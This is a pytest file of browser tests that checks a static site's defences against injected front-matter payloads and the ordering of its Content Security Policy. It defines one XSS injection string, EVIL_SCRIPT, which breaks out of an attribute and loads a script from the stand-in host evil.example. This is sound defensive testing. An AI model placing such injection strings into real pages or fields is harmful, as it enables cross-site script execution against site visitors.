"""Browser checks of the front-matter defences (issue 15, items 1 and 2), Playwright + Debian chromium.

- every theme field of a hand-written page set to a payload (script, meta refresh, ``<style>``):
  no script runs, no dialog, no navigation, no request to another host, the page stays visible;
- the CSP comes before Material's metas: with escaping switched off on purpose, an external script
  slipped into ``author`` is blocked by the policy before any request leaves the browser.
"""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from browser_support import playwright_or_skip, serving
from theme_payloads import PAGE, build_payload_site

sync_api = playwright_or_skip()
pytestmark = [pytest.mark.navigateur, pytest.mark.construction]  # every page comes from a built site

EVIL_SCRIPT = '"><script src="https://evil.example/x.js"></script><meta name="x" content="'


@pytest.fixture(scope="module")
def payload_base(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with serving(build_payload_site(tmp_path_factory.mktemp("entete-navigateur"))) as base:
        yield base


@pytest.fixture(scope="module")
def unescaped_base(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    site = build_payload_site(tmp_path_factory.mktemp("sans-echappement"), {"title": "Contribuer", "author": EVIL_SCRIPT},
                              escape=False)
    with serving(site) as base:
        yield base


def _visit(browser: Any, url: str) -> dict[str, Any]:
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    seen: dict[str, Any] = {"requests": [], "dialogs": [], "navigations": [], "errors": [], "routed": [], "csp": []}
    page.on("request", lambda r: seen["requests"].append(r.url))
    page.on("requestfailed", lambda r: seen["csp"].append(r.url) if r.failure == "csp" else None)
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on("framenavigated", lambda f: seen["navigations"].append(f.url) if f == page.main_frame else None)
    page.on("console", lambda m: seen["errors"].append(m.text) if m.type == "error" else None)

    def route(route: Any) -> None:  # a request that reaches this handler has left the page
        seen["routed"].append(route.request.url)
        route.continue_() if urlsplit(route.request.url).hostname == "127.0.0.1" else route.abort()

    context.route("**/*", route)
    try:
        page.goto(url, wait_until="networkidle")
        with contextlib.suppress(sync_api.TimeoutError):  # a refresh of 0 s navigates within this bound
            page.wait_for_event("framenavigated", predicate=lambda f: f == page.main_frame, timeout=1500)
        seen["visible"] = page.evaluate("getComputedStyle(document.body).display !== 'none'")
        seen["final"] = page.url
    finally:
        context.close()
    seen["foreign"] = sorted({u for u in seen["routed"] if urlsplit(u).hostname != "127.0.0.1"})
    return seen


@pytest.mark.parametrize("path", [f"{PAGE}/", "", "annuaire/"])
def test_front_matter_payloads_never_act(browser: Any, payload_base: str, path: str) -> None:
    seen = _visit(browser, f"{payload_base}/{path}")
    assert seen["dialogs"] == [] and seen["foreign"] == [] and seen["csp"] == []
    assert all(urlsplit(u).hostname == "127.0.0.1" for u in seen["requests"])
    assert seen["navigations"] == [f"{payload_base}/{path}"] and seen["final"] == f"{payload_base}/{path}"
    assert seen["visible"], "la page a été masquée par un <style> venu de l'en-tête"
    assert seen["errors"] == []


def test_the_csp_is_in_force_before_materials_metas(browser: Any, unescaped_base: str) -> None:
    seen = _visit(browser, f"{unescaped_base}/{PAGE}/")
    assert seen["foreign"] == [], "un script d'un autre hôte a été demandé avant la CSP"
    assert seen["csp"] == ["https://evil.example/x.js"]  # blocked by the policy inside the browser
